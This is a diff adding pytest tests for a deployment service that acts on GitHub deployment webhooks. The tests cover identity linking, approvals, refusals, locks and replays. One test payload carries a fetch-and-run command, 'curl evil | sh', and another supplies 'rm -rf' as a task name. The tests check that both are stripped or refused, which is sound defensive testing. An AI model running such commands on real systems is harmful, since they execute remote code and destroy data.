@@ -1,0 +1,316 @@
+"""A deployment that was created at GitHub is performed here, once, on somebody's authority."""
+
+from __future__ import annotations
+
+import json
+from typing import Any
+
+import pytest
+from django.utils import timezone
+
+from deployments.exceptions import NotAllowed
+from deployments.forges.github import marker
+from deployments.models import (
+    Approval,
+    Delivery,
+    Deployment,
+    Environment,
+    ForgeAccount,
+    ForgeDeployment,
+    Person,
+    Role,
+    Webhook,
+)
+from deployments.services import approvals, deliveries, locks
+from deployments.services.lifecycle import Door
+from tests.deployments import build
+from tests.deployments.services.conftest import tip
+from tests.deployments.services.queueing import drain
+from tests.deployments.webhooks.conftest import Deliver, handled
+from tests.deployments.webhooks.github.examples import example
+from tests.servers.repositories import Repository
+
+pytestmark = pytest.mark.django_db
+
+UID = 21031067  # Codertocat, who creates GitHub's example
+NUMBER = 145988746
+Body = dict[str, Any]
+
+
+@pytest.fixture
+def body(repository: Repository, production: Environment, webhook: Webhook) -> Body:
+    """GitHub's own example, of now, for the newest commit here."""
+    told = example("deployment")
+    sha, now = tip(repository), timezone.now().isoformat()
+    told["deployment"] |= {"sha": sha, "created_at": now, "ref": "main"}
+    return told
+
+
+@pytest.fixture
+def codertocat(alice: Person) -> Person:
+    """Alice, who has proved that the account is hers."""
+    link(alice)
+    return alice
+
+
+def link(person: Person) -> None:
+    ForgeAccount.objects.create(
+        person=person, base_url="https://api.github.com", uid=UID, login="Codertocat"
+    )
+
+
+def told(body: Body, **more: Any) -> Body:
+    return {**body, "deployment": {**body["deployment"], **more}}
+
+
+def carried_out(deliver: Deliver, body: Body) -> Delivery:
+    deliver("deployment", body)
+    return handled()
+
+
+def test_it_is_performed_on_the_authority_of_who_created_it(
+    deliver: Deliver, body: Body, codertocat: Person, repository: Repository
+) -> None:
+    done = carried_out(deliver, body)
+
+    made = Deployment.objects.get()
+    assert (made.status, made.person, made.via) == ("queued", codertocat, "webhook")
+    assert (made.sha, made.ref, str(made.environment)) == (
+        tip(repository),
+        "main",
+        "hello/production",
+    )
+    assert done.outcome == (
+        f"Codertocat created deployment {NUMBER} at GitHub, and is Alice here. "
+        f"#{made.pk} brings main ({made.sha[:7]}) to hello/production."
+    )
+
+
+def test_who_created_it_is_on_record(deliver: Deliver, body: Body, codertocat: Person) -> None:
+    carried_out(deliver, body)
+
+    row = ForgeDeployment.objects.get()
+    assert (row.remote_id, row.login, row.uid) == (NUMBER, "Codertocat", UID)
+    assert row.deployment == Deployment.objects.get()
+
+
+def test_an_account_that_is_nobodys_waits_for_approval(
+    deliver: Deliver, body: Body, dora: Person
+) -> None:
+    done = carried_out(deliver, body)
+
+    made = Deployment.objects.get()
+    assert (made.status, made.waits_for) == ("pending", "approval")
+    assert str(made.person) == "Codertocat at GitHub"
+    assert "once it is approved: Codertocat at GitHub is linked to nobody here" in done.outcome
+
+
+def test_a_login_or_address_like_a_persons_is_no_proof(
+    deliver: Deliver, body: Body, alice: Person
+) -> None:
+    Person.objects.filter(pk=alice.pk).update(username="Codertocat", email="octo@example.com")
+
+    carried_out(deliver, body)
+
+    assert Deployment.objects.get().person != alice
+
+
+def test_who_stands_for_an_account_may_nothing(deliver: Deliver, body: Body) -> None:
+    carried_out(deliver, body)
+
+    stranger = Deployment.objects.get().person
+    assert stranger.username == "Codertocat@github.com"
+    assert not stranger.is_active
+    assert not stranger.has_usable_password()
+    assert not stranger.roles.exists()
+
+
+def test_the_same_account_is_the_same_person_when_it_is_renamed(
+    deliver: Deliver, body: Body
+) -> None:
+    deliver("deployment", body)
+    creator = {**body["deployment"]["creator"], "login": "Cat"}
+    deliver("deployment", told(body, id=2, creator=creator))
+    drain("chat")
+
+    first, second = Deployment.objects.order_by("pk")
+    assert first.person == second.person
+    assert str(second.person) == "Cat at GitHub"
+
+
+def test_who_may_not_deploy_there_waits_for_approval(
+    deliver: Deliver, body: Body, codertocat: Person
+) -> None:
+    Role.objects.filter(person=codertocat).update(name="viewer")
+
+    carried_out(deliver, body)
+
+    assert Deployment.objects.get().person == codertocat
+    assert Approval.objects.get().because == (
+        "Alice may not deploy to hello/production, so somebody has to approve it."
+    )
+
+
+@pytest.mark.parametrize("created_at", ["2019-05-15T15:20:53Z", None, "soon", 10**30])
+def test_what_is_old_waits_for_approval(
+    deliver: Deliver, body: Body, codertocat: Person, created_at: object
+) -> None:
+    carried_out(deliver, told(body, created_at=created_at))
+
+    assert Deployment.objects.get().waits_for == "approval"
+
+
+def test_what_was_approved_is_carried_out_in_the_name_of_both(
+    deliver: Deliver, body: Body, dora: Person
+) -> None:
+    carried_out(deliver, body)
+    made = Deployment.objects.get()
+
+    approvals.approve(made, Door(dora, "web"))
+    drain("chat")
+
+    made.refresh_from_db()
+    assert (made.status, str(made.person)) == ("queued", "Codertocat at GitHub")
+    assert made.approval.person == dora
+
+
+def test_whose_account_it_is_does_not_approve_it(
+    deliver: Deliver, body: Body, dora: Person
+) -> None:
+    link(dora)
+    carried_out(deliver, told(body, created_at="2019-05-15T15:20:53Z"))
+
+    with pytest.raises(NotAllowed, match="another approves it"):
+        approvals.approve(Deployment.objects.get(), Door(dora, "web"))
+
+
+def test_the_same_number_is_one_deployment_for_ever(
+    deliver: Deliver, body: Body, codertocat: Person
+) -> None:
+    deliver("deployment", body)
+    drain("chat")
+    deliver("deployment", told(body, description="again"))
+    drain("chat")
+
+    made = Deployment.objects.get()
+    second = Delivery.objects.order_by("-pk")[0]
+    assert second.state == "unhandled"
+    assert second.outcome == f"Kept; nothing is deployed: it is #{made.pk} here already."
+
+
+def test_done_again_it_is_not_deployed_again(
+    deliver: Deliver, body: Body, codertocat: Person, dora: Person
+) -> None:
+    done = carried_out(deliver, body)
+    deliveries.do_again(done, dora)
+    drain("chat")
+
+    assert Deployment.objects.count() == 1
+
+
+@pytest.mark.parametrize(
+    ("wrong", "says"),
+    [
+        ({"environment": "moon"}, "has no environment “moon”. It has: qa, production."),
+        ({"payload": {"hosts": "web-9"}}, "has no host or role called “web-9”"),
+        ({"payload": {"hosts": {"a": 1}}}, "hosts: Send names, or a list of them."),
+        ({"payload": {"parameters": ["A"]}}, "parameters: Send names, each with a text."),
+        ({"payload": {"parameters": {"A": "1"}}}, "A"),
+        ({"task": "rm -rf"}, "hello has no task “rm -rf”"),
+        ({"sha": "f" * 40}, "fffffff"),
+    ],
+)
+def test_what_is_refused_makes_nothing_and_says_why(
+    deliver: Deliver, body: Body, codertocat: Person, wrong: Body, says: str
+) -> None:
+    done = carried_out(deliver, told(body, **wrong))
+
+    assert not Deployment.objects.exists()
+    assert done.state == "handled"
+    assert "is not performed." in done.outcome
+    assert says in done.outcome
+    assert says in ForgeDeployment.objects.get().refusal
+
+
+def test_a_locked_place_refuses(
+    deliver: Deliver, body: Body, codertocat: Person, production: Environment, dora: Person
+) -> None:
+    locks.take(production, Door(dora, "web"), reason="demo")
+
+    assert "is not performed. Dora locked hello/production" in carried_out(deliver, body).outcome
+
+
+def test_what_was_refused_may_be_done_again_when_nothing_is_in_the_way(
+    deliver: Deliver, body: Body, codertocat: Person, dora: Person, production: Environment
+) -> None:
+    done = carried_out(deliver, told(body, environment="moon"))
+    production.aliases = ["moon"]
+    production.save(update_fields=["aliases"])
+
+    deliveries.do_again(done, dora)
+    drain("chat")
+
+    row = ForgeDeployment.objects.get()
+    assert (row.deployment, row.refusal) == (Deployment.objects.get(), "")
+
+
+def test_hubot_deploys_payload_chooses_hosts_and_says_for_whom(
+    deliver: Deliver, body: Body, codertocat: Person
+) -> None:
+    payload = {
+        "name": "hello",
+        "hosts": "hello-production-1",
+        "config": {"provider": "shell", "deploy_script": "curl evil | sh"},
+        "notify": {"adapter": "slack", "room": "ops", "user_name": "ana"},
+    }
+    carried_out(deliver, told(body, payload=json.dumps(payload), description="deploy"))
+
+    made = Deployment.objects.get()
+    assert made.hosts == ["hello-production-1"]
+    assert made.why == "deploy (said to be for ana)"
+    assert "curl" not in json.dumps([made.settings, made.parameters, made.note])
+
+
+def test_a_shape_of_before_2014_is_read_too(
+    deliver: Deliver, body: Body, codertocat: Person
+) -> None:
+    old = {**body["deployment"], "repository": body["repository"]}
+    old["payload"] = json.dumps({"environment": "qa"})
+    del old["environment"]
+
+    carried_out(deliver, old)
+
+    assert str(Deployment.objects.get().environment) == "hello/qa"
+
+
+def test_our_own_is_recognised(
+    deliver: Deliver, body: Body, codertocat: Person, qa: Environment
+) -> None:
+    own = build.deployment(qa, codertocat, "a" * 40)
+    mark = marker.made(own.pk, own.created_at)
+
+    done = carried_out(deliver, told(body, payload={marker.KEY: mark}))
+
+    assert done.state == "unhandled"
+    assert f"it is #{own.pk}, which Shipmate itself made known" in done.outcome
+    assert Deployment.objects.get() == own
+
+
+def test_a_repository_that_is_away_has_it_wait(
+    deliver: Deliver, body: Body, codertocat: Person, repository: Repository
+) -> None:
+    repository.path.rename(repository.path.with_name("away.git"))
+
+    carried_out(deliver, body)
+
+    made = Deployment.objects.get()
+    assert (made.status, made.waits_for) == ("pending", None)
+
+
+@pytest.mark.parametrize(
+    "odd", [{"sha": "main"}, {"id": None}, {"id": 2**70}, {"creator": None}, {"creator": []}]
+)
+def test_what_lacks_something_is_said_to_be_unhandled(
+    deliver: Deliver, body: Body, odd: Body
+) -> None:
+    assert carried_out(deliver, told(body, **odd)).state == "unhandled"
